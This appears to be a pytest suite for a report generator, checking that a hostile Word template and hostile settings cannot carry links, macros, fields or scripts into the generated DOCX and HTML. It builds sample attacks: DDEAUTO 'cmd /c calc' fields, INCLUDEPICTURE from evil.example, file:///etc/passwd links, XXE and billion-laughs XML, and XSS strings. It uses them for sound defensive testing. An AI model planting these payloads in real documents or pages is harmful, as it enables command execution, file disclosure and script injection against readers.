"""What a bureau's template folder can put into the files reportgen writes: a reference.docx
lends its styles, page setup and footers and nothing that links out, fetches or runs; a
damaged one is one located message; every setting that reaches the HTML stays text, every
font name a CSS string."""

from __future__ import annotations

import io
import random
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest
import tinycss2
import tinyhtml5
from conftest import MINIMAL, ROOT
from lxml import etree

from reportgen.build import build
from reportgen.errors import ReportgenError

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XHTML = "{http://www.w3.org/1999/xhtml}"
FETCHING = {"INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "IMPORT", "LINK", "DDE", "DDEAUTO", "DATABASE", "RD", "EMBED"}


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "reportgen", *args], capture_output=True, text=True)


def _blank_parts(footer_text: str | None = None) -> dict[str, bytes]:
    document = docx.Document()
    document.styles["Normal"].font.name = "某参考字体"
    document.add_paragraph("参考文档正文里的字")
    if footer_text is not None:
        document.sections[0].footer.paragraphs[0].text = footer_text
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {info.filename: archive.read(info.filename) for info in archive.infolist()}


def _zip(parts: dict[str, bytes], path: Path, method: int = zipfile.ZIP_DEFLATED) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _rels(*rels: tuple[str, str, str, bool]) -> bytes:
    outside = ' TargetMode="External"'
    lines = "".join(
        f'<Relationship Id="{i}" Type="{kind}" Target="{target}"{outside if external else ""}/>'
        for i, kind, target, external in rels
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'.encode()


def _run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def _field(instruction: str, result: str) -> str:
    """A complex field, its instruction cut over two runs as Word does."""
    half = len(instruction) // 2
    return (
        _run('<w:fldChar w:fldCharType="begin"/>')
        + _run(f'<w:instrText xml:space="preserve">{instruction[:half]}</w:instrText>')
        + _run(f'<w:instrText xml:space="preserve">{instruction[half:]}</w:instrText>')
        + _run('<w:fldChar w:fldCharType="separate"/>')
        + _run(f"<w:t>{result}</w:t>")
        + _run('<w:fldChar w:fldCharType="end"/>')
    )


HOSTILE_FOOTER = (
    "<w:p>"
    + _field(" PAGE ", "1")
    + _field(' INCLUDEPICTURE "http://evil.example/x.png" \\d ', "图")
    + _field(' LINK Excel.Sheet.12 "\\\\\\\\host\\\\share\\\\a.xlsx" ', "链接")
    + '<w:fldSimple w:instr=" includetext &quot;\\\\host\\share\\a.docx&quot; ">'
    + "<w:r><w:t>引入</w:t></w:r></w:fldSimple>"
    + '<w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>dde</w:t></w:r></w:fldSimple>'
    + '<w:hyperlink r:id="rIdHx"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink>'
    + '<w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1"><v:imagedata r:id="rIdImg"/>'
    + '</v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"'
    + ' r:id="rIdOle"/></w:object></w:r>'
    + '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    + '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="x">'
    + '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
    + '<a:blip r:link="rIdLinked"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
    + "</w:p>"
)


def _hostile_reference(path: Path) -> Path:
    """A macro-enabled reference document whose footer, settings and body link out, fetch, embed."""
    parts = _blank_parts("某区财政局")
    footer = next(n for n in parts if re.fullmatch(r"word/footer\d*\.xml", n))
    parts[footer] = parts[footer].replace(b"</w:ftr>", HOSTILE_FOOTER.encode() + b"</w:ftr>")
    parts[footer.replace("word/", "word/_rels/") + ".rels"] = _rels(
        ("rIdHx", f"{R}/hyperlink", "file:///etc/passwd", True),
        ("rIdLinked", f"{R}/image", "\\\\host\\share\\logo.png", True),
        ("rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin", False),
        ("rIdImg", f"{R}/image", "media/ole.png", False),
    )
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0OLE"
    parts["word/media/ole.png"] = b"\x89PNG\r\n\x1a\n"
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0VBA"
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        _rels(
            ("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
            ("rIdBody", f"{R}/hyperlink", "\\\\host\\share", True),
        )[len(b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">') :],
    )
    parts["word/_rels/settings.xml.rels"] = _rels(
        ("rIdT", f"{R}/attachedTemplate", "file://host/share/evil.dotm", True),
        ("rIdM", f"{R}/mailMergeSource", "file:///c:/data.xlsx", True),
    )
    settings = parts["word/settings.xml"].decode()
    head = re.search(r"<w:settings[^>]*>", settings).group()
    settings = settings.replace(
        head,
        head[:-1]
        + ("" if "xmlns:r=" in head else f' xmlns:r="{R}"')
        + '><w:attachedTemplate r:id="rIdT"/><w:linkStyles/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        + '<w:dataSource r:id="rIdM"/></w:mailMerge>',
    )
    parts["word/settings.xml"] = settings.encode()
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>",
        b'<w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    )
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(b"wordprocessingml.document.main+xml", b"NOPE")
        .replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.NOPE",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    )
    return _zip(parts, path)


def _bureau(tmp_path: Path, reference: Path | None = None) -> tuple[Path, Path]:
    folder = tmp_path / "tpl"
    folder.mkdir(exist_ok=True)
    (folder / "settings.yaml").write_text("名称: 某区\n", encoding="utf-8")
    source = tmp_path / "r.yaml"
    source.write_text(MINIMAL, encoding="utf-8")
    return folder, source


def _instructions(root: etree._Element) -> list[str]:
    """The words of every field instruction in a part (one instruction may span several runs)."""
    joined = "".join(e.text or "" for e in root.iter(f"{{{W}}}instrText"))
    joined += " ".join(e.get(f"{{{W}}}instr") or "" for e in root.iter(f"{{{W}}}fldSimple"))
    return re.findall(r"[A-Z]+", joined.upper())


def test_a_hostile_reference_docx_lends_only_its_styles_page_and_footer(tmp_path):
    folder, source = _bureau(tmp_path)
    _hostile_reference(folder / "reference.docx")
    result = run("build", str(source), "--template", str(folder), "-f", "docx", "-o", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    (warning,) = [line for line in result.stderr.splitlines() if "reference.docx" in line]
    assert warning.startswith(f"{folder / 'reference.docx'}:1:1: 警告: 模板「某区」的 reference.docx 含有")
    for named in (
        "指向文件外的链接 5 个",
        "宏（vbaProject）",
        "嵌入或链接的对象",
        "DDEAUTO、INCLUDEPICTURE、INCLUDETEXT、LINK",
    ):
        assert named in warning
    with zipfile.ZipFile(tmp_path / "out" / "r.docx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not [n for n in parts if re.search(r"vbaProject|vbaData|embeddings/|activeX|oleObject", n)]
    for name, content in parts.items():
        assert b"External" not in content and b"host" not in content and b"file:" not in content, name
        if name.endswith(".xml"):
            root = etree.fromstring(content)
            assert not FETCHING & set(_instructions(root)), name
            assert not [e for e in root.iter() if isinstance(e.tag, str) and e.tag.endswith(("}object", "}OLEObject"))]
            assert not [e for e in root.iter() if f"{{{R}}}link" in e.attrib]
    assert b"macroEnabled" not in parts["[Content_Types].xml"]
    settings = etree.fromstring(parts["word/settings.xml"])
    assert [e for e in settings if e.tag.split("}")[1] in ("attachedTemplate", "mailMerge", "linkStyles")] == []
    # what it lends arrives: its footer with its page number and text, its Normal style
    (footer,) = [etree.fromstring(c) for n, c in parts.items() if re.fullmatch(r"word/footer\d*\.xml", n)]
    assert _instructions(footer) == ["PAGE"]
    assert "某区财政局" in "".join(footer.itertext()) and "链接文字" in "".join(footer.itertext())
    styles = etree.fromstring(parts["word/styles.xml"])
    normal = styles.find(f"{{{W}}}style[@{{{W}}}styleId='Normal']")
    assert normal.find(f"{{{W}}}rPr/{{{W}}}rFonts").get(f"{{{W}}}ascii") == "某参考字体"
    assert "参考文档正文里的字" not in parts["word/document.xml"].decode()


def _without(name: str):
    def change(parts: dict[str, bytes]) -> None:
        del parts[name]

    return change


def _replace(name: str, content: bytes):
    def change(parts: dict[str, bytes]) -> None:
        parts[name] = content

    return change


LAUGHS = (  # a billion laughs: ten entities of ten each
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY l0 "lol">'
    + b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    + b']><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    + b'<w:style w:styleId="&l9;"/></w:styles>'
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:x w:val="&e;"/></w:settings>'
)
PLAIN_DOCTYPE = (
    b'<?xml version="1.0"?><!DOCTYPE w:settings SYSTEM "http://evil.example/x.dtd">'
    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
)
STRICT = b'<w:styles xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'
NO_NORMAL = b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'


@pytest.mark.parametrize(
    ("change", "fragment"),
    [
        (_without("word/styles.xml"), "中缺少 word/styles.xml"),
        (_without("word/settings.xml"), "中缺少 word/settings.xml"),
        (_without("_rels/.rels"), "中找不到正文部件"),
        (
            _replace("word/styles.xml", b"<w:styles xmlns:w='x'><w:style"),
            "中的 word/styles.xml 不是有效的 XML（第 1 行",
        ),
        (_replace("word/styles.xml", LAUGHS), "中的 word/styles.xml 不是有效的 XML"),
        (_replace("word/settings.xml", XXE), "中的 word/settings.xml 不是有效的 XML"),
        (_replace("word/settings.xml", PLAIN_DOCTYPE), "中的 word/settings.xml 含有 <!DOCTYPE>"),
        (_replace("word/styles.xml", STRICT), "不是 Word 的样式部件（可能是“严格 Open XML”格式）"),
        (_replace("word/styles.xml", NO_NORMAL), "没有「Normal」（正文）样式"),
        (_replace("word/document.xml", b"<x/>"), "中的 word/document.xml 不是 Word 的正文部件"),
        (_replace("word/_rels/document.xml.rels", b"<Relationships"), "document.xml 的关系部件 不是有效的 XML"),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 12 else None,
)
def test_a_damaged_reference_docx_is_one_located_message(tmp_path, change, fragment):
    folder, source = _bureau(tmp_path)
    parts = _blank_parts()
    change(parts)
    _zip(parts, folder / "reference.docx")
    result = run("build", str(source), "--template", str(folder), "-f", "docx", "-o", str(tmp_path / "out"))
    assert result.returncode == 1, result.stderr
    assert f"{folder / 'reference.docx'}: 错误: 模板的 reference.docx" in result.stderr
    assert fragment in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and "内部错误" not in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_reference_docx_whose_zip_does_not_check_out(tmp_path):
    folder, source = _bureau(tmp_path)
    data = bytearray(_zip(_blank_parts(), tmp_path / "stored.docx", zipfile.ZIP_STORED).read_bytes())
    data[data.find(b"<w:latentStyles") + 5] ^= 0x20  # one byte of styles.xml: its CRC no longer matches
    (folder / "reference.docx").write_bytes(bytes(data))
    result = run("validate", str(source), "--template", str(folder))
    assert result.returncode == 1 and "模板的 reference.docx 已损坏，无法解压" in result.stdout + result.stderr
    (folder / "reference.docx").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)
    result = run("validate", str(source), "--template", str(folder))
    assert result.returncode == 1 and "不是有效的 Word 文件" in result.stdout + result.stderr


def test_a_reference_docx_without_page_setup_or_typed_styles_still_builds(tmp_path):
    folder, source = _bureau(tmp_path)
    parts = _blank_parts()
    parts["word/document.xml"] = re.sub(rb"<w:sectPr.*</w:sectPr>", b"", parts["word/document.xml"], flags=re.S)
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>", b'<w:style w:styleId="NoType"/><w:style w:type="odd" w:styleId="Odd"/></w:styles>'
    )
    _zip(parts, folder / "reference.docx")
    out = build(source, tmp_path / "out", ("docx",), template_dir=folder).outputs[0]
    with zipfile.ZipFile(out) as archive:
        document = etree.fromstring(archive.read("word/document.xml"))
    size = document.find(f".//{{{W}}}body/{{{W}}}sectPr/{{{W}}}pgSz")
    assert (size.get(f"{{{W}}}w"), size.get(f"{{{W}}}h")) == ("11906", "16838")  # the layout's A4


def test_a_reference_docx_damaged_anywhere_never_reaches_an_internal_error(tmp_path):
    rng = random.Random(24)
    original = _blank_parts("页脚")
    folder, source = _bureau(tmp_path)
    outcomes = set()
    for number in range(30):
        parts = dict(original)
        name = rng.choice(sorted(n for n in parts if n.endswith((".xml", ".rels"))))
        data = bytearray(parts[name])
        start = rng.randrange(len(data))
        if number % 2:
            del data[start : start + rng.randrange(1, 120)]
        else:
            data[start:start] = data[start : start + rng.randrange(1, 200)]
        parts[name] = bytes(data)
        _zip(parts, folder / "reference.docx")
        try:
            build(source, tmp_path / f"out{number}", ("docx",), template_dir=folder)
            outcomes.add("built")
        except ReportgenError as exc:  # anything else is a bug of reportgen's
            assert "reference.docx" in exc.message
            outcomes.add("refused")
    assert outcomes == {"built", "refused"}


HOSTILE_SETTINGS = """\
名称: 某区
附件标签: <script>a()</script>
文书名称: 'x"><script>alert(1)</script><img src=x>'
自评表名称: '</title><script>alert(3)</script>'
自评表注: ['注：<script>alert(4)</script>', '&lt;b&gt;实体&lt;/b&gt;']
标题改写:
  综合评价分析: '<style>*{display:none}</style>'
自评表:
  行标题: {总分: '<script>c()</script>', 年度总体目标: '" onmouseover="alert(7)'}
版式:
  字体:
    正文: {官方: ['x"; } </style><script>alert(8)</script>', "a'b\\\\c"]}
    标题: {官方: ['方正小标宋_GBK', '</STYLE ><script>alert(9)</script>']}
"""
SHOWN = [
    "<script>a()</script>",
    'x"><script>alert(1)</script><img src=x>',
    "</title><script>alert(3)</script>",
    "注：<script>alert(4)</script>",
    "&lt;b&gt;实体&lt;/b&gt;",
    "<style>*{display:none}</style>",
    "<script>c()</script>",
    '" onmouseover="alert(7)',
]
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "div", "h1", "h2", "h3", "h4", "h5", "p", "span", "br",
    "table", "colgroup", "col", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


def _families(css: str) -> list[list[str]]:
    """Each font-family declaration of a stylesheet, as the list of names a CSS parser reads."""
    found = []
    for rule in tinycss2.parse_stylesheet(css, skip_comments=True, skip_whitespace=True):
        if rule.type == "error" or rule.content is None:
            continue
        for item in tinycss2.parse_declaration_list(rule.content, skip_comments=True, skip_whitespace=True):
            if item.type == "declaration" and item.name == "font-family":
                tokens = [t for t in item.value if t.type not in ("whitespace", "literal")]
                assert all(t.type == "string" for t in tokens), tinycss2.serialize(item.value)
                found.append([t.value for t in tokens])
    return found


def _tree_of(path: Path) -> tuple[list[str], str, str]:
    """(every element's tag, the style element's text, the body's text) as a browser parses the file."""
    root = tinyhtml5.parse(path.read_text(encoding="utf-8"))
    tags = [e.tag.removeprefix(XHTML) for e in root.iter()]
    (style,) = [e for e in root.iter(f"{XHTML}style")]
    body = root.find(f"{XHTML}body")
    return tags, style.text or "", "".join(body.itertext())


def test_every_setting_stays_text_in_the_html(tmp_path):
    folder = tmp_path / "evil"
    folder.mkdir()
    (folder / "settings.yaml").write_text(HOSTILE_SETTINGS, encoding="utf-8")
    shutil.copy(ROOT / "examples" / "sample-jiedao-2024.yaml", tmp_path / "r.yaml")
    result = run("build", str(tmp_path / "r.yaml"), "--template", str(folder), "-f", "html", "-k", "报告,自评表")
    assert result.returncode == 0, result.stderr
    texts = ""
    for name in ("r.html", "r-自评表.html"):
        tags, style, text = _tree_of(tmp_path / name)
        assert set(tags) <= ALLOWED_TAGS, set(tags) - ALLOWED_TAGS
        assert tags.count("style") == 1 and tags.count("title") == 1
        families = _families(style)
        assert any(f[:2] == ['x"; } </style><script>alert(8)</script>', "a'b\\c"] for f in families)
        assert any(f[:2] == ["方正小标宋_GBK", "</STYLE ><script>alert(9)</script>"] for f in families)
        texts += text
    for shown in SHOWN:
        assert shown in texts, shown


def test_font_names_from_font_files_stay_css_strings():
    from reportgen.compose.tree import AttachmentNote, Cell, Document, Paragraph, Table
    from reportgen.fonts.faces import Face, Resolved
    from reportgen.page import Layout
    from reportgen.render.pdf.html import render

    layout = Layout()
    evil = 'Evil"; } </style><script>alert(1)</script>'
    face = Face(evil, "Regular", "/tmp/a'b\"</style>.ttf", "4e00-9fff", supplied=True)
    roles = {role: Resolved(layout.fonts[role], [face]) for role in layout.fonts}
    table = Table([[Cell("甲"), Cell("乙")]], kind='form" onclick="alert(2)')
    nodes = [Paragraph("正文。"), table, AttachmentNote(["</p><script>alert(3)</script>"])]
    html = render(Document("标题", nodes), layout, roles)
    root = tinyhtml5.parse(html)
    tags = {e.tag.removeprefix(XHTML) for e in root.iter()}
    assert tags <= ALLOWED_TAGS and "script" not in tags
    (style,) = root.iter(f"{XHTML}style")
    assert {tuple(f) for f in _families(style.text)} == {(evil,)}
    rules = tinycss2.parse_stylesheet(style.text, skip_comments=True, skip_whitespace=True)
    faces = [r for r in rules if r.type == "at-rule" and r.lower_at_keyword == "font-face"]
    (source,) = [
        t for f in faces for d in tinycss2.parse_declaration_list(f.content) if getattr(d, "name", "") == "src"
        for t in d.value if t.type in ("url", "function")
    ]  # fmt: skip
    assert "a%27b%22%3C/style%3E.ttf" in tinycss2.serialize([source])
    (tabled,) = root.iter(f"{XHTML}table")
    assert tabled.get("class") == 'form" onclick="alert(2)' and tabled.get("onclick") is None
    assert "</p><script>alert(3)</script>" in "".join(root.find(f"{XHTML}body").itertext())
